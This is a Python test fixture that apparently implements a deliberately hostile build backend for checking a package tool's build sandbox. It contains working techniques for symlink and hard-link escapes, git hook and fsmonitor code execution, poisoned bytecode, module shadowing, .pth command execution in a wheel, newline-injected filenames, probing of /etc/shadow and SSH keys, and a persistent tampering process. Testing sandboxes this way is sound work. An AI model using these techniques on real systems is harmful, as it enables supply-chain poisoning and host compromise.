"""A build backend that tries to get out of its sandbox, and to change what is published, in every way that it knows.

What it tried and what it saw is left in `report.txt` for a test to print. Everything that would disturb the hook
itself is done when the interpreter ends.
"""

import atexit
import importlib.util
import marshal
import os
import subprocess
import sys
import zipfile

VICTIM = "@VICTIM@"
STAYS = "@STAYS@"
# `leave`: get out of the sandbox; `change`: change what is published.
MODE = "@MODE@"
FILES = (
    "overrides.txt",
    "input.in",
    "constraints.txt",
    "sync.lock",
    "direct.lock",
    "spec.json",
    "output.lock",
    "hooks.py",
)


def tell(line):
    with open("/testbed/report.txt", "a") as report:
        report.write(line + "\n")


def attempt(name, action):
    try:
        result = action()
    except Exception as error:
        result = "%s: %s" % (type(error).__name__, error)
    # One line, the same wherever the tree lies.
    tell("tried %s: %s" % (name, str(result).replace("\n", " ").replace("/testbed", "the tree")))


def writable_places():
    """Mount points that can be written to and are neither the tree nor the interpreter's."""
    found = []
    with open("/proc/self/mountinfo") as mounts:
        for line in mounts:
            fields = line.split(" ")
            place, options = fields[4], fields[5].split(",")
            own = place == "/" or place.startswith(("/proc", "/sys", "/dev", "/testbed", "/opt/build", "/opt/venv"))
            if "rw" in options and not own and os.path.isdir(place):
                found.append(place)
    return found


def link_folders(names):
    done = []
    for place in writable_places():
        for name, target in names:
            path = os.path.join(place, name)
            try:
                if os.path.lexists(path):
                    os.rename(path, path + ".was")
                os.symlink(target, path)
                done.append(path)
            except OSError:
                pass
    return "linked %s" % done


def link_files():
    done = []
    for place in writable_places():
        for name in FILES:
            path = os.path.join(place, name)
            try:
                if os.path.lexists(path):
                    os.unlink(path)
                os.symlink(VICTIM + "/overwritten.txt", path)
                done.append(path)
            except OSError:
                pass
    return "linked %s" % done


def read_and_write_home():
    seen = []
    for folder in [os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/old" + VICTIM, VICTIM]:
        for inner in (folder, folder + "/home", folder + "/tmp"):
            try:
                with open(inner + "/secret") as file:
                    seen.append(file.read())
            except OSError:
                pass
            try:
                with open(inner + "/written-by-the-build-backend", "w") as file:
                    file.write("x")
            except OSError:
                pass
    return "saw %s" % seen


def replace_folder_of_the_tree():
    os.rename("/testbed/pkg", "/testbed/pkg.was")
    os.symlink(VICTIM + "/dir", "/testbed/pkg")
    return "linked"


def make_git():
    os.makedirs("/testbed/.git/info")
    os.symlink(VICTIM + "/exclude_target", "/testbed/.git/info/exclude")
    os.symlink(VICTIM + "/objects", "/testbed/.git/objects")
    os.makedirs("/testbed/.git/hooks")
    for hook in ("pre-commit", "post-commit", "post-index-change", "reference-transaction"):
        path = "/testbed/.git/hooks/" + hook
        with open(path, "w") as file:
            file.write("#!/bin/sh\necho hook > %s/run-by-git\n" % VICTIM)
        os.chmod(path, 0o755)
    with open("/testbed/.git/config", "w") as file:
        file.write("[core]\n\tfsmonitor = echo fsmonitor > %s/run-by-git\n\thooksPath = hooks\n" % VICTIM)
    os.makedirs("/testbed/nested/.git/hooks")
    with open("/testbed/nested/.git/config", "w") as file:
        file.write("[core]\n\tworktree = %s\n" % VICTIM)
    os.makedirs("/testbed/modules")
    with open("/testbed/modules/.git", "w") as file:
        file.write("gitdir: %s/gitdir\n" % VICTIM)
    return "made"


def link_hard():
    done = []
    for path in [os.path.realpath(sys.executable), "/opt/uv/uv", os.__file__, "/etc/passwd", "/bin/sh"]:
        target = "/testbed/hard-%d" % len(done)
        try:
            os.link(path, target)
            done.append(path)
            with open(target, "ab") as file:
                file.write(b"# changed by a build\n")
        except OSError:
            pass
    return "LINKED %s" % done if done else "refused"


def poisoned(source, flags):
    """Byte code that says another thing than the source, under the source's time and size or under none."""
    code = compile("def value():\n    return 'POISON OF THE BUILD'\n", source, "exec")
    status = os.stat(source)
    check = int(status.st_mtime).to_bytes(4, "little") + (status.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    head = importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + (check if flags == 0 else b"12345678")
    place = importlib.util.cache_from_source(source)
    os.makedirs(os.path.dirname(place), exist_ok=True)
    with open(place, "wb") as file:
        file.write(head + marshal.dumps(code))


def plant_byte_code():
    poisoned("/testbed/plain.py", 0)
    poisoned("/testbed/hashed.py", 1)
    return "planted"


def change_source():
    with open("/testbed/changed.py", "w") as file:
        file.write("def value():\n    return 'POISON OF THE BUILD'\n")
    return "changed"


def stay_behind():
    """A process that goes on after the job's end: it links, writes and changes for as long as it lives."""
    code = (
        "import os, sys, time\n"
        "end = time.time() + 900\n"
        "while time.time() < end:\n"
        "    for path in ('/testbed/changed.py', '/testbed/plain.py'):\n"
        "        try:\n"
        "            open(path, 'w').write(\"def value():\\n    return 'POISON OF THE BUILD'\\n\")\n"
        "        except OSError:\n"
        "            pass\n"
        "    time.sleep(0.05)\n"
    )
    null = subprocess.DEVNULL
    subprocess.Popen(
        [sys.executable, "-c", code, STAYS], start_new_session=True, stdin=null, stdout=null, stderr=null
    )
    return "started"


def name_with_a_new_line():
    for name in ("new\nRUN touch injected\n#", "tab\tand'quote", "esc\x1b]0;title\x07"):
        with open(os.path.join("/testbed", name), "w") as file:
            file.write("x")
    return "made"


def look_at_the_host():
    seen = []
    for path in ("/root/.ssh", "/etc/shadow", "/old", "/var/run/docker.sock", VICTIM):
        try:
            os.stat(path) if path != "/etc/shadow" else open(path).close()
            seen.append(path)
        except OSError:
            pass
    return "saw %s" % seen


# Each would be found before something that is pinned, that comes with Python, or that is installed.
FOUND_FIRST = {
    "pytest.toml": '[pytest]\naddopts = ["-p", "evilplug"]\n',
    "evil.egg-info/entry_points.txt": "[pytest11]\nevil = evilplug\n",
    "evil.egg-info/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1\n",
    "evil-2.DIST-INFO/entry_points.txt": "[pytest11]\nother = evilplug\n",
    "evil-2.DIST-INFO/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 2\n",
    "evilplug.py": "import builtins\nbuiltins.poison = 'POISON OF THE BUILD'\n",
    "nspkg.py": "def value():\n    return 'POISON OF THE BUILD'\n",
    "nspkg/__init__.py": "poison = 'POISON OF THE BUILD'\n",
    "src/nspkg/__init__.py": "",
    "src/nspkg/one.py": "def value():\n    return 'POISON OF THE BUILD'\n",
    "tests/nspkg/one.py": "def value():\n    return 'POISON OF THE BUILD'\n",
    "colorsys.py": "poison = 'POISON OF THE BUILD'\n",
    "tests/colorsys/__init__.py": "poison = 'POISON OF THE BUILD'\n",
    "pluggy/__init__.py": "poison = 'POISON OF THE BUILD'\n",
    "iniconfig.py": "poison = 'POISON OF THE BUILD'\n",
}


def plant_modules():
    for name, text in FOUND_FIRST.items():
        path = os.path.join("/testbed", name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
    return "planted"


# Each would run at each start, or be found before what is pinned.
IN_THE_WHEEL = {
    "started.pth": "import evilwheel\n",
    "evilwheel.py": "import builtins\nbuiltins.poison = 'POISON OF THE BUILD'\n",
    "plain.py": "def value():\n    return 'POISON OF THE BUILD'\n",
    "attacks-1.dist-info/entry_points.txt": "[pytest11]\nevil = evilwheel\n",
}


def generate_sources():
    with open("/testbed/pkg_version.py", "w") as file:
        file.write("version = 'made by the build'\n")
    return "generated"


def at_the_end():
    folders = [(name, "/old" + VICTIM + "/home") for name in ("home", "tmp", "build", "in", "out", "tree")]
    attempt("links for folders of jobs", lambda: link_folders(folders))
    attempt("links for files of the driver", link_files)


# What the first hook writes into the tree is gone with it: the second one tries the same again, for the report.
def get_requires_for_build_editable(settings=None):
    attempt("the host in sight", look_at_the_host)
    if MODE == "leave":
        atexit.register(at_the_end)
    return []


def build_editable(folder, settings=None, metadata=None):
    if MODE == "leave":
        attempt("the host in sight", look_at_the_host)
        attempt("reading through the home", read_and_write_home)
        attempt("a folder of the tree", replace_folder_of_the_tree)
        attempt("a git folder", make_git)
        atexit.register(at_the_end)
    else:
        attempt("hard links", link_hard)
        attempt("byte code", plant_byte_code)
        attempt("source", change_source)
        attempt("modules", plant_modules)
        attempt("generated sources", generate_sources)
        attempt("names", name_with_a_new_line)
        attempt("a process that stays", stay_behind)
    info = "attacks-1.dist-info/"
    files = {
        "attacks.pth": "/testbed\n",
        "evil.pth": "import os; os.system('echo pth > %s/run-by-pth 2>/dev/null')\n" % VICTIM,
        info + "WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        info + "METADATA": "Metadata-Version: 2.1\nName: attacks\nVersion: 1\n",
    }
    if MODE == "change":
        files.update(IN_THE_WHEEL)
    files[info + "RECORD"] = "".join(name + ",,\n" for name in files) + info + "RECORD,,\n"
    name = "attacks-1-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        for inner, text in files.items():
            wheel.writestr(inner, text)
    return name
